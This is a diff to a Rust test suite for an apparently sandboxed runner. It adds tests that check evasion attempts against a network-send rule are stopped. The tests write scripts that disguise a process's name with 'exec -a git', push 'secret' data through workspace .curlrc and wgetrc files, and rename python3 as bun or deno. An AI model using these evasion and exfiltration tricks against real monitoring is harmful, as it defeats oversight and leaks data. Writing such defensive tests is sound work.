@@ -5,7 +5,7 @@ use std::path::Path;
 use std::process::Command;
 
 use super::everyone;
-use super::user::{TestUser, assert_stopped};
+use super::user::{TestUser, assert_stopped, skip};
 
 /// Nothing answers there, and nothing has to: connections are judged before
 /// the name is looked up.
@@ -27,7 +27,7 @@ fn compile(user: &TestUser, source: &str, program: &str, options: &[&str]) -> bo
     command.args(options).arg("-o").arg(user.project().join(program)).arg(file);
     let is_made = command.output().is_ok_and(|output| output.status.success());
     if !is_made {
-        println!("skipped: cc cannot compile {program}");
+        skip(&format!("cc cannot compile {program}"));
     }
     is_made
 }
@@ -167,7 +167,7 @@ everyone!(an_overlay_copy_is_another_program);
 fn an_overlay_copy_is_another_program(user: &mut TestUser) {
     let curl = Path::new("/usr/bin/curl");
     if !curl.exists() {
-        println!("skipped: there is no {}", curl.display());
+        skip(&format!("there is no {}", curl.display()));
         return;
     }
     for name in ["cargo", "curl"] {
@@ -228,4 +228,60 @@ fn a_mount_over_an_installed_program_is_not_made(user: &mut TestUser) {
     let result = user.attempt("python3 over.py");
     let output = result["output"].as_str().unwrap_or_default();
     assert!(output.contains("mount "), "the mount was made: {result}");
+}
+
+everyone!(a_caller_is_not_known_by_what_it_calls_itself);
+fn a_caller_is_not_known_by_what_it_calls_itself(user: &mut TestUser) {
+    // ssh wants its user to have a name.
+    if !user.has(&["git", "ssh"]) || !user.lay_over("/etc/passwd", &user.password_file()) {
+        return;
+    }
+    let ssh = format!("ssh -o StrictHostKeyChecking=no -o BatchMode=yes {HOST} cat; true");
+    let push = format!(
+        "printf \"capabilities\\nlist for-push\\n\" | \"$(git --exec-path)\"/git-remote-https origin \
+         https://{HOST}/x; true"
+    );
+    for line in [ssh, push] {
+        user.write("run.sh", format!("#!/bin/bash\nexec -a git bash -c '{line}'\n"));
+        assert_stopped(&line, &user.attempt("./run.sh"), HOST, "network:send");
+    }
+}
+
+everyone!(a_client_with_a_configuration_of_the_workspace_may_send);
+fn a_client_with_a_configuration_of_the_workspace_may_send(user: &mut TestUser) {
+    if !user.has(&["curl"]) {
+        return;
+    }
+    user.write(".curlrc", "data = \"secret\"\n");
+    user.write("wgetrc", "post_data = secret\n");
+    let mut lines = vec![
+        format!("CURL_HOME=$PWD curl -s -m 5 https://{HOST}/"),
+        format!("HOME=$PWD curl -s -m 5 https://{HOST}/"),
+        format!("curl -s -m 5 -K .curlrc https://{HOST}/"),
+    ];
+    if user.has(&["wget"]) {
+        lines.push(format!("WGETRC=wgetrc wget -q -T 5 -t 1 https://{HOST}/"));
+    }
+    for line in lines {
+        user.write("run.sh", format!("#!/bin/sh\n{line}\n"));
+        assert_stopped(&line, &user.attempt("./run.sh"), HOST, "network:send");
+    }
+}
+
+everyone!(a_runtime_that_fetches_may_send_what_its_program_likes);
+fn a_runtime_that_fetches_may_send_what_its_program_likes(user: &mut TestUser) {
+    // Any interpreter will do: what counts is the name of the installed file.
+    let Ok(python) = std::fs::read("/usr/bin/python3") else {
+        skip("there is no /usr/bin/python3");
+        return;
+    };
+    user.write("x.py", CLIENT);
+    for name in ["bun", "deno"] {
+        let file = user.outside().join(name);
+        std::fs::write(&file, &python).expect("a program");
+        let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
+        std::fs::set_permissions(&file, mode).expect("a mode");
+        user.write("run.sh", format!("#!/bin/sh\n{} x.py\n", file.display()));
+        assert_stopped(name, &user.attempt("./run.sh"), HOST, "network:send");
+    }
 }
